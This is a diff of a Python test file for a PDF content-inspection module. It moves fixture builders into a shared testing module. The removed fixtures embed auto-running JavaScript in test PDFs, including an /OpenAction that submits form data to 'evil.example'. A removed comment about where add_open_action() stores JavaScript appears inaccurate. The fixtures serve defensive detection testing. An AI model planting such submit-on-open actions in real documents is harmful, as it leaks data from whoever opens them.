@@ -12,7 +12,7 @@ import zlib
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from pypdf import PdfReader, PdfWriter
+from pypdf import PdfReader
 from pypdf.actions import JavaScript, PageTrigger
 from pypdf.generic import (
     ArrayObject,
@@ -21,63 +21,24 @@ from pypdf.generic import (
     NameObject,
     TextStringObject,
 )
-from reportlab.lib.pagesizes import A4
-from reportlab.pdfgen import canvas
 
 from vigie.records.ingest_errors import InvalidDocument
 from vigie.records.inspection import ContentReport, inspect
+from vigie.records.testing import (
+    VALID_PDF,
+    pdf_with_document_javascript,
+    pdf_with_open_action_javascript,
+)
+from vigie.records.testing import pdf_bytes as _bytes
+from vigie.records.testing import pdf_writer as _writer
 
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 32
 JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
 
 
-def lab_report_pdf() -> bytes:
-    buffer = io.BytesIO()
-    page = canvas.Canvas(buffer, pagesize=A4)
-    page.drawString(72, 800, "Laboratoire Test - Numeration formule sanguine")
-    page.drawString(72, 780, "Hemoglobine 13.2 g/dL (12.0-16.0)")
-    page.showPage()
-    page.save()
-    return buffer.getvalue()
-
-
-VALID_PDF = lab_report_pdf()
-
-
-def _writer() -> PdfWriter:
-    return PdfWriter(clone_from=PdfReader(io.BytesIO(VALID_PDF)))
-
-
-def _bytes(writer: PdfWriter) -> bytes:
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
-
-
-def pdf_with_document_javascript() -> bytes:
-    # pypdf 7 removed add_js(); add_open_action() is its replacement: document-level
-    # JavaScript in the catalog's /Names tree, run when the file opens.
-    writer = _writer()
-    writer.add_open_action(JavaScript("app.alert('pwned');"))
-    return _bytes(writer)
-
-
 def pdf_with_page_open_javascript() -> bytes:
     writer = _writer()
     writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))
-    return _bytes(writer)
-
-
-def pdf_with_open_action_javascript() -> bytes:
-    writer = _writer()
-    action = DictionaryObject(
-        {
-            NameObject("/Type"): NameObject("/Action"),
-            NameObject("/S"): NameObject("/JavaScript"),
-            NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example/');"),
-        }
-    )
-    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
     return _bytes(writer)
 
 
